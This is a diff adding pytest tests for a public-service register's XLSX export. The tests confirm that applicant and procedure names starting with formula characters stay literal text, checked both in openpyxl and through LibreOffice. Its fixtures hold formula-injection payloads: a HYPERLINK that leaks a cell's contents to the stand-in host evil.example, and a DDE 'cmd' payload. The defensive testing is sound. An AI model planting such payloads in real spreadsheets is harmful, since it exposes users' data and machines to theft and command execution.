@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -160,3 +161,61 @@ def test_the_api_gives_the_same_register(svc: Any, march: dict[str, Dossier]) ->
     missing = _client(svc.sct_officer).get(url, {"agency": 999_999, "from": "2026-03-01", "to": "2026-03-31"})
     assert hidden.status_code == missing.status_code == 404
     assert hidden.json() == missing.json()
+
+
+# --- user text stays text (formula injection) ---------------------------------------------------
+
+EVIL_PROCEDURE = '=HYPERLINK("http://evil.example/?d="&B6,"Bấm vào đây")'
+EVIL_NAMES = ["=cmd|' /C calc'!A0 Văn An", "+84 Thị Hoa", "-2+3 Minh", "@SUM(1;2) Đức"]
+
+
+@pytest.fixture
+def hostile(svc: Any, clock: Any) -> bytes:
+    """The centre's register of a day on which every applicant's name and the procedure's name
+    start with what a spreadsheet evaluates."""
+    from tinhso.services.models import Procedure
+
+    Procedure.objects.filter(pk=svc.procedure.pk).update(name=EVIL_PROCEDURE)
+    svc.procedure.refresh_from_db()
+    clock.set(at("2026-03-02", 9))
+    for index, name in enumerate(EVIL_NAMES):
+        _counter(svc, name, f"09000000{index:02d}")
+    content, _name = dossier_register_xlsx(svc.receiver, svc.centre.pk, "2026-03-02", "2026-03-02")
+    return content
+
+
+def test_names_that_look_like_formulas_are_written_as_text(hostile: bytes) -> None:
+    from tinhso.core.privacy import mask_name
+
+    sheet = load_workbook(io.BytesIO(hostile)).active
+    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == []
+    lines = [row for row in sheet.iter_rows(min_row=6, max_row=5 + len(EVIL_NAMES))]
+    assert [line[2].value for line in lines] == [EVIL_PROCEDURE] * len(EVIL_NAMES)
+    assert [line[4].value for line in lines] == [mask_name(name) for name in EVIL_NAMES]
+    assert [line[4].value[0] for line in lines] == ["=", "+", "-", "@"]
+    assert all(line[2].quotePrefix and line[4].quotePrefix for line in lines)
+    assert lines[0][2].font.name == "Times New Roman"  # the styling of the line is kept
+
+
+def test_libreoffice_reads_the_formula_like_names_as_text(hostile: bytes, tmp_path: Path) -> None:
+    """A real spreadsheet application opens the register and saves it as CSV: the cells hold the
+    literal text, not the result of a formula."""
+    import csv
+    import shutil
+
+    from tinhso.core.documents import run_in_own_group
+
+    binary = shutil.which("soffice") or shutil.which("libreoffice")
+    if binary is None or not (Path(binary).resolve().parent / "libsclo.so").is_file():
+        pytest.skip("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
+    (tmp_path / "so.xlsx").write_bytes(hostile)
+    returncode, output = run_in_own_group(
+        [binary, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--norestore",
+         "--nolockcheck", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path),
+         str(tmp_path / "so.xlsx")], timeout=120, cwd=tmp_path)
+    assert returncode == 0, output
+    rows = list(csv.reader((tmp_path / "so.csv").read_text(encoding="utf-8").splitlines()))
+    lines = rows[5:5 + len(EVIL_NAMES)]
+    assert [line[2] for line in lines] == [EVIL_PROCEDURE] * len(EVIL_NAMES)
+    assert [line[4][:2] for line in lines] == ["=.", "+.", "-.", "@."]
